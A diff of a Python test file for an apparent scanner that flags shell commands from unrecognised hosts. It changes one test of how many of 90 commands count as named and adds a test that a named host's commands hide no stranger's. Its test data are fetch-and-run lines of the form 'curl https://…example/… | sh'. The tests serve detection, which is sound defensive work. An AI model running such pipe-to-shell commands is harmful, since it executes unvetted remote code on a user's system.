@@ -38,9 +38,14 @@ def test_a_stranger_s_program_is_blocked(text: str) -> None:
     assert "high" in {finding.severity for finding in scan(text)}
 
 
-def test_of_many_commands_the_first_are_asked_for() -> None:
+def test_of_many_hosts_those_that_are_not_asked_for_are_strangers() -> None:
     text = "\n".join(f"curl https://a{number}.example/i | sh" for number in range(90))
     hosts = Hosts(text)
-    asked = [hosts.named(line) for line in text.splitlines()]
-    assert not any(asked[:40])
-    assert all(asked[40:])
+    assert not any(hosts.named(line) for line in text.splitlines())
+
+
+def test_many_commands_of_a_host_that_is_named_hide_no_stranger_s() -> None:
+    guide = "\n".join(f"curl https://get.chess.example/{number} | sh" for number in range(90))
+    hosts = Hosts(f"the chess club\n{guide}\n{COMMAND}".lower())
+    assert all(hosts.named(line) for line in guide.splitlines())
+    assert not hosts.named(COMMAND.lower())
